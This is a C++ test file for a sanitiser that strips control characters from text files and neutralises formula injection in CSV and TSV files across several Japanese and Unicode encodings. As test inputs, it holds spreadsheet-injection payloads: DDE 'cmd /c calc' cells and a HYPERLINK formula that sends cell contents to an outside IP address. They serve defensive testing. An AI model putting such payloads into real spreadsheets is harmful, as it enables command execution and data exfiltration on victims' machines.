#include <doctest/doctest.h>

#include <filesystem>
#include <regex>

#include "../../sanitizers/text/charset.hpp"
#include "fixtures.hpp"
#include "mugaika/engine.hpp"

using namespace mugaika;

namespace {

const Engine& engine() {
    static Engine e(builtin_registry(), Policy::defaults());
    return e;
}

bool has(const Outcome& o, const std::string& kind) {
    for (const auto& f : o.findings)
        if (f.kind == kind) return true;
    return false;
}

}  // namespace

TEST_CASE("text: clean text is released byte for byte") {
    std::string sjis = "\x82\xa8\x92\x6d\x82\xe7\x82\xb9\r\n";
    Outcome o = engine().process(sjis, "notice.txt");
    CHECK(o.verdict == Verdict::released);
    REQUIRE(o.outputs.size() == 1);
    CHECK(o.outputs[0].bytes == sjis);
    CHECK(o.outputs[0].name == "notice.txt");
}

TEST_CASE("text: control characters are removed and the encoding is kept") {
    std::string sjis = "\x82\xa8\x07\x92\x6d\x1b\x82\xe7\x82\xb9\t\r\n";   // お BEL 知 ESC らせ TAB CRLF
    Outcome o = engine().process(sjis, "notice.txt");
    CHECK(o.verdict == Verdict::disarmed);
    CHECK(has(o, "text.control"));
    REQUIRE(o.outputs.size() == 1);
    CHECK(o.outputs[0].bytes == "\x82\xa8\x92\x6d\x82\xe7\x82\xb9\t\r\n");
}

TEST_CASE("text: UTF-16 keeps its BOM, ISO-2022-JP stays ISO-2022-JP") {
    std::string u16("\xFF\xFE" "a\0\x01\0b\0", 8);
    Outcome o = engine().process(u16, "a.txt");
    REQUIRE(o.outputs.size() == 1);
    CHECK(o.outputs[0].bytes == std::string("\xFF\xFE" "a\0b\0", 6));

    std::string jis = "\x1b$B$*CN$i$;\x1b(B\x7f\n";
    Outcome j = engine().process(jis, "j.txt");
    REQUIRE(j.outputs.size() == 1);
    CHECK(charset::decode(j.outputs[0].bytes, "ISO-2022-JP") == "お知らせ\n");
}

TEST_CASE("text: bytes that are not text in any supported encoding are not released") {
    Outcome o = engine().process(std::string("\x82\x20\xff\xfe\x81", 5) + "zz", "odd.txt");
    CHECK(o.verdict == Verdict::quarantined);
    CHECK(o.outputs.empty());
}

TEST_CASE("csv: formula injection is neutralised, plain numbers are kept") {
    std::string in = "name,amount,note\r\nA,-300,\"=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\"\r\nB,+5,@SUM(A1)\r\nC,12.5,\"-2+3\"\r\n";
    Outcome o = engine().process(in, "list.csv");
    CHECK(o.verdict == Verdict::disarmed);
    CHECK(has(o, "csv.formula"));
    REQUIRE(o.outputs.size() == 1);
    CHECK(o.outputs[0].bytes ==
          "name,amount,note\r\nA,-300,\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\"\r\nB,+5,'@SUM(A1)\r\nC,12.5,\"'-2+3\"\r\n");
}

TEST_CASE("csv: full-width triggers, tab and CR starts are neutralised too") {
    Outcome o = engine().process("\xEF\xBC\x9D" "1+1,\"\rcmd\"\n", "a.csv");
    REQUIRE(o.outputs.size() == 1);
    CHECK(o.outputs[0].bytes == "'\xEF\xBC\x9D" "1+1,\"'\rcmd\"\n");
}

TEST_CASE("csv: a Shift_JIS CSV stays Shift_JIS so Excel still opens it") {
    // 氏名,式\r\n山田,=1+1\r\n in CP932
    std::string sjis = "\x8e\x81\x96\xbc,\x8e\xae\r\n\x8e\x52\x93\x63,=1+1\r\n";
    Outcome o = engine().process(sjis, "名簿.csv");
    REQUIRE(o.outputs.size() == 1);
    CHECK(o.outputs[0].bytes == "\x8e\x81\x96\xbc,\x8e\xae\r\n\x8e\x52\x93\x63,'=1+1\r\n");
    CHECK(o.outputs[0].name == "名簿.csv");
}

TEST_CASE("csv: TSV uses tabs, a clean CSV is released as it is") {
    Outcome t = engine().process("a\tb\n=x\t2\n", "t.tsv");
    REQUIRE(t.outputs.size() == 1);
    CHECK(t.outputs[0].bytes == "a\tb\n'=x\t2\n");
    std::string clean = "a,b\n1,2\n";
    Outcome c = engine().process(clean, "c.csv");
    CHECK(c.verdict == Verdict::released);
    CHECK(c.outputs[0].bytes == clean);
}

TEST_CASE("csv: an unterminated quoted field is malformed, not guessed") {
    Outcome o = engine().process("a,\"b\n1,2\n", "bad.csv");
    CHECK(o.verdict == Verdict::quarantined);
    CHECK(o.reason == "malformed");
}

TEST_CASE("text: NUL bytes and binary never pass as text") {
    for (std::string bad : {std::string("report\0hidden\r\n", 15), std::string("MZ\0\0text", 8),
                            std::string("abc\x1b[2Jdef\0", 11)}) {
        Outcome o = engine().process(bad, "a.txt");
        CHECK(o.quarantined());
        CHECK(o.outputs.empty());
    }
    // C1 controls (0x80-0x9F as code points) go like C0 ones; what leaves is what was validated.
    Outcome c1 = engine().process("abc\xC2\x85" "def\xC2\x9B" "x\r\n", "a.txt");
    REQUIRE(c1.outputs.size() == 1);
    CHECK(c1.outputs[0].bytes == "abcdefx\r\n");
}

namespace {

// Every field of a CSV as Python's csv module splits it with `delimiter`, one per line, for an
// independent view of what Excel will put in each cell.
std::vector<std::string> python_fields(const std::string& utf8, char delimiter) {
    mugaika::test::TempDir d;
    mugaika::test::write_file(d / "in.csv", utf8);
    std::string script =
        "import csv, sys\n"
        "with open(sys.argv[1], newline='', encoding='utf-8') as f:\n"
        "    for row in csv.reader(f, delimiter=sys.argv[2]):\n"
        "        for cell in row:\n"
        "            print(cell.replace('\\r', '\\\\r').replace('\\n', '\\\\n'))\n";
    auto r = mugaika::test::run("python3 -c " + mugaika::test::shell_quote(script) + " " +
                                mugaika::test::shell_quote((d / "in.csv").string()) + " " +
                                mugaika::test::shell_quote(std::string(1, delimiter)));
    REQUIRE(r.status == 0);
    std::vector<std::string> out;
    std::size_t start = 0;
    while (start < r.out.size()) {
        auto end = r.out.find('\n', start);
        out.push_back(r.out.substr(start, end - start));
        start = end + 1;
    }
    return out;
}

// A cell a spreadsheet would evaluate, as the tests judge it (independently of the sanitizer).
bool runs_as_formula(const std::string& cell) {
    std::string v = cell;
    v.erase(0, v.find_first_not_of(' '));
    if (v.empty()) return false;
    static const std::regex number(R"(^[+-]?(\d{1,3}(,\d{3})+|\d+)?(\.\d+)?([eE][+-]?\d+)?%?$)");
    if (std::regex_match(v, number) && v.find_first_of("0123456789") != std::string::npos) return false;
    if (v.find_first_not_of('-') == std::string::npos) return false;
    return v[0] == '=' || v[0] == '+' || v[0] == '-' || v[0] == '@' || cell.starts_with("\\r") || cell[0] == '\t';
}

}  // namespace

TEST_CASE("csv: the header cannot steer the split: a .csv is neutralised as Excel splits it, on commas") {
    std::string in = "氏名;金額;備考\r\n山田,=cmd|' /c calc'!A0,x\r\n佐藤,\"=HYPERLINK(\"\"http://203.0.113.5/\"\"&A1)\",y\r\n鈴木,@SUM(1+1)*cmd|' /C calc'!A0,z\r\n";
    Outcome o = engine().process(in, "list.csv");
    REQUIRE(o.outputs.size() == 1);
    CHECK(o.verdict == Verdict::disarmed);
    CHECK(has(o, "csv.formula"));
    for (const auto& cell : python_fields(o.outputs[0].bytes, ',')) {
        CAPTURE(cell);
        CHECK_FALSE(runs_as_formula(cell));
    }
    CHECK(o.outputs[0].bytes.find("'=cmd") != std::string::npos);
    CHECK(o.outputs[0].bytes.find("'@SUM") != std::string::npos);
}

TEST_CASE("csv: a sep= line is removed with a finding, and the split it asked for is neutralised too") {
    for (std::string sep : {"sep=;", "SEP=;", "\"sep=;\"", "sep=|"}) {
        CAPTURE(sep);
        std::string in = sep + "\r\na;=1+1;b\r\nc|=2+2|d\r\n";
        Outcome o = engine().process(in, "s.csv");
        REQUIRE(o.outputs.size() == 1);
        CHECK(has(o, "csv.sep"));
        CHECK(o.outputs[0].bytes.find("sep=") == std::string::npos);
        CHECK(o.outputs[0].bytes.find("SEP=") == std::string::npos);
        CHECK(o.outputs[0].bytes.find(";'=1+1") != std::string::npos);   // a ';' split finds it
    }
}

TEST_CASE("csv: plain numbers stay numbers, whatever their sign, separators or currency") {
    std::string in = "科目,金額,率\r\n売上,\"-1,234\",-5%\r\n返品,-5,+3\r\n調整,\"-¥1,234.50\",-1.5E+3\r\n小計,-,\"+12,345,678\"\r\n差額,-.5,---\r\n";
    Outcome o = engine().process(in, "accounts.csv");
    REQUIRE(o.outputs.size() == 1);
    CHECK(o.verdict == Verdict::released);
    CHECK(o.outputs[0].bytes == in);
    // ... but arithmetic or anything else after a sign is not a number, and is neutralised.
    Outcome f = engine().process("a,b\r\n+81-3-1234-5678,\"-1,23\"\r\n-1+2,\"-1,234+A1\"\r\n", "p.csv");
    REQUIRE(f.outputs.size() == 1);
    CHECK(f.outputs[0].bytes == "a,b\r\n'+81-3-1234-5678,\"'-1,23\"\r\n'-1+2,\"'-1,234+A1\"\r\n");
}

TEST_CASE("csv: leading spaces, quoted line breaks and UTF-16 tab splitting") {
    Outcome sp = engine().process("a,b\r\n =1+1,\"x\r\n=2+2\"\r\n", "s.csv");
    REQUIRE(sp.outputs.size() == 1);
    // Split on commas, "x\r\n=2+2" is one quoted cell; split on tabs, the quote is text and "=2+2\""
    // starts a record of its own: neutralised for that reader too.
    CHECK(sp.outputs[0].bytes == "a,b\r\n' =1+1,\"x\r\n'=2+2\"\r\n");

    // Excel splits a UTF-16 .csv on tabs: those cells are found too.
    std::string text = "a,b\r\nx\t=cmd|'/c calc'!A0\r\n";
    std::string u16 = "\xFF\xFE";
    for (char c : text) u16 += std::string{c, '\0'};
    Outcome w = engine().process(u16, "u.csv");
    REQUIRE(w.outputs.size() == 1);
    auto back = mugaika::charset::decode(w.outputs[0].bytes.substr(2), "UTF-16LE");
    REQUIRE(back);
    CHECK(back->find("\t'=cmd") != std::string::npos);
    for (const auto& cell : python_fields(*back, '\t')) CHECK_FALSE(runs_as_formula(cell));
    for (const auto& cell : python_fields(*back, ',')) CHECK_FALSE(runs_as_formula(cell));
}

TEST_CASE("csv: a .tsv is split on tabs, commas inside a tab cell are text, not cells") {
    Outcome o = engine().process("a\tb\r\n1,=2\t-3\r\n=A1\tx,@y\r\n", "t.tsv");
    REQUIRE(o.outputs.size() == 1);
    // Tab cells: "1,=2" is text; "-3" a number; "=A1" neutralised. The comma split also sees "=2"
    // and "@y", which could run, and neutralises them.
    CHECK(o.outputs[0].bytes == "a\tb\r\n1,'=2\t-3\r\n'=A1\tx,'@y\r\n");
    for (char d : {'\t', ',', ';'})
        for (const auto& cell : python_fields(o.outputs[0].bytes, d)) CHECK_FALSE(runs_as_formula(cell));
}

TEST_CASE("csv: corpus CSV injection samples are neutralised (skipped without the corpus)") {
    auto dir = mugaika::test::corpus_dir();
    if (!dir || !std::filesystem::exists(*dir / "csv-injection")) {
        MESSAGE("corpus csv-injection not found: skipped");
        return;
    }
    for (const auto& f : std::filesystem::directory_iterator(*dir / "csv-injection")) {
        CAPTURE(f.path().string());
        std::string bytes = mugaika::test::read_whole(f.path());
        Outcome o = engine().process(bytes, f.path().filename().string());
        if (o.quarantined()) continue;
        REQUIRE(o.outputs.size() == 1);
        auto text = mugaika::charset::detect_and_decode(o.outputs[0].bytes);
        REQUIRE(text);
        char d = o.outputs[0].name.ends_with(".csv") ? ',' : '\t';
        if (o.outputs[0].type == "csv")
            for (const auto& cell : python_fields(text->utf8, d)) CHECK_FALSE(runs_as_formula(cell));
    }
}
